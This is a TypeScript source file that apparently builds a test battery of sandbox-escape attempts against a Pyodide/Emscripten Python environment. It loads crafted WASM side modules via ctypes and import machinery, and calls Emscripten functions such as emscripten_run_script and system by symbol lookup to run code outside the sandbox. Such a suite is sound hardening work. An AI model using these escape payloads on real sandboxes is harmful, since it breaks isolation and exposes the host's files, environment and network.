import type { Attack, Outside } from "../escape.ts";
import { type Goal, goalsOf, quoted, restored, thenRun } from "./goals.ts";
import { sideModule } from "./wasm.ts";

/** JavaScript that leaves a file in the interpreter when it reached its goal. */
const leaving = (goal: string, file: string): string => `if (${goal}) FS.writeFile(${quoted(file)}, "ESCAPED")`;

const written = (bytes: string, path: string) => `import base64
open('${path}', 'wb').write(base64.b64decode('${bytes}'))
`;
const answer = (file: string) => `
import os
open('${file}').read() if os.path.exists('${file}') else 'held'`;
const quietly = (statement: string) => `try: ${statement}\nexcept BaseException: pass`;

type Loader = readonly [name: string, load: (path: string) => string];

/** Ways to a shared object of a program's own making, made of bytes in /tmp. */
const loaders: readonly Loader[] = [
  ["ctypes.CDLL", (path) => `import ctypes\n${quietly(`ctypes.CDLL('${path}')`)}`],
  ["_ctypes.dlopen", (path) => `import _ctypes\n${quietly(`_ctypes.dlopen('${path}', 2)`)}`],
  [
    "the loader of extensions",
    (path) => `from importlib.machinery import ExtensionFileLoader as L, ModuleSpec as S
${quietly(`L('x', '${path}').create_module(S('x', None, origin='${path}'))`)}`,
  ],
  [
    "_imp.create_dynamic",
    (path) => `import _imp, importlib.machinery as m
${quietly(`_imp.create_dynamic(m.ModuleSpec('x', None, origin='${path}'))`)}`,
  ],
  [
    "an import from sys.path",
    (path) => `import os, _imp
name = os.path.basename('${path}')[:-3]
os.rename('${path}', '/tmp/' + name + _imp.extension_suffixes()[0]); sys.path.insert(0, '/tmp')
${quietly("__import__(name)")}
sys.path.pop(0)`,
  ],
];

interface Linked {
  readonly how: string;
  readonly goal: Goal;
  readonly module: (goal: string, file: string) => Parameters<typeof sideModule>[0];
}

/** What a side module can do as it is loaded. */
const payloads: readonly Linked[] = [
  {
    how: "with a function of JavaScript in it",
    goal: "read",
    module: (goal, file) => ({ data: `(void)<::>{}; ${leaving(goal, file)}`, places: { __em_js__x: 0 } }),
  },
  {
    how: "that imports emscripten_run_script",
    goal: "environment",
    module: (goal, file) => ({
      data: leaving(goal, file),
      calls: { name: "emscripten_run_script", more: [], returns: false },
    }),
  },
  {
    how: "that imports emscripten_run_script_string",
    goal: "write",
    module: (goal, file) => ({
      data: `${leaving(goal, file)}, ''`.replace("if (", "(").replace(") FS", ") && FS"),
      calls: { name: "emscripten_run_script_string", more: [], returns: true },
    }),
  },
  {
    how: "that imports emscripten_run_script_int",
    goal: "process",
    module: (goal, file) => ({
      data: leaving(goal, file),
      calls: { name: "emscripten_run_script_int", more: [], returns: true },
    }),
  },
  {
    how: "that imports emscripten_console_log",
    goal: "global",
    module: () => ({
      data: '\n{"value": "ESCAPED"}\n',
      calls: { name: "emscripten_console_log", more: [], returns: false },
    }),
  },
  {
    how: "that imports _emscripten_system",
    goal: "global",
    module: () => ({
      data: `echo; echo '{"value": "ESCAPED"}'`,
      calls: { name: "_emscripten_system", more: [], returns: true },
    }),
  },
];

const linked = (outside: Outside): readonly Attack[] =>
  loaders.flatMap(([loader, load], i) => {
    // Every loader with three payloads, so that each of them comes with several.
    return [0, 1, 2]
      .map((j) => payloads[(i * 2 + j) % payloads.length])
      .flatMap((payload, j) => {
        if (payload === undefined) return [];
        const [path, file] = [`/tmp/linked${i}${j}.so`, `/tmp/linked${i}${j}`];
        const bytes = sideModule(payload.module(goalsOf(outside)[payload.goal], file));
        return [
          {
            name: `linked: ${loader}, a module ${payload.how}, ${payload.goal}`,
            code: `${restored}${written(bytes, path)}${load(path)}${answer(file)}`,
          },
        ];
      });
  });

/** Functions of Emscripten's library that a program looks up by name and calls by their address. */
const symbols = (outside: Outside): readonly Attack[] => {
  const goals = goalsOf(outside);
  const yes = (goal: string) => `Number(${goal})`;
  const attack = (name: string, code: string): Attack => ({
    name: `symbols: ${name}`,
    code: `${restored}import ctypes, _ctypes\n${code}`,
  });
  return [
    attack(
      "emscripten_run_script_int, read",
      `'ESCAPED' if ctypes.CDLL(None).emscripten_run_script_int(${quoted(yes(goals.read))}.encode()) else 'held'`,
    ),
    attack(
      "emscripten_run_script, environment",
      `ctypes.pythonapi.emscripten_run_script(${quoted(leaving(goals.environment, "/tmp/symbol"))}.encode())${answer("/tmp/symbol")}`,
    ),
    attack(
      "emscripten_run_script_string, tcp",
      `f = ctypes.CDLL(None).emscripten_run_script_string; f.restype = ctypes.c_char_p
'ESCAPED' if f(${quoted(`String(${goals.tcp})`)}.encode()) == b'true' else 'held'`,
    ),
    attack(
      "an address of _ctypes.dlsym",
      `a = _ctypes.dlsym(_ctypes.dlopen(None, 2), 'emscripten_run_script_int')
'ESCAPED' if ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(a)(${quoted(yes(goals.write))}.encode()) else 'held'`,
    ),
    attack(
      "call_function",
      `a = _ctypes.dlsym(_ctypes.dlopen(None, 2), 'emscripten_run_script_int')
'ESCAPED' if _ctypes.call_function(a, (${quoted(yes(goals.signal))}.encode(),)) else 'held'`,
    ),
    attack(
      "system",
      `'ESCAPED' if ctypes.CDLL(None).system(${quoted(`test -r '${outside.canary}'`)}.encode()) == 0 else 'held'`,
    ),
    attack(
      "_emscripten_system",
      `'ESCAPED' if ctypes.CDLL(None)['_emscripten_system'](${quoted(`test -r '${outside.canary}'`)}.encode()) == 0 else 'held'`,
    ),
    attack(
      "PyRun_SimpleString",
      `ctypes.pythonapi.PyRun_SimpleString(${quoted(`import pyodide_js\nF = pyodide_js.runPython.constructor${thenRun(goals.read)}\nopen('/tmp/simple', 'w').write('ESCAPED' if run('true') else 'held')`)}.encode())${answer("/tmp/simple")}`,
    ),
    attack(
      "a module that PyImport_ImportModule finds",
      `p = ctypes.pythonapi.PyImport_ImportModule; p.restype = ctypes.py_object
F = p(b'pyodide_js').runPython.constructor${thenRun(goals.process)}`,
    ),
    attack(
      "a callback of qsort that calls on",
      `L = ctypes.CDLL(None); got = []
K = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)
k = K(lambda a, b: got.append(L.emscripten_run_script_int(${quoted(yes(goals.environment))}.encode())) or 0)
L.qsort((ctypes.c_int * 2)(2, 1), 2, 4, k)
'ESCAPED' if got[0] else 'held'`,
    ),
  ];
};

export const libraries = (outside: Outside): readonly Attack[] => [...linked(outside), ...symbols(outside)];
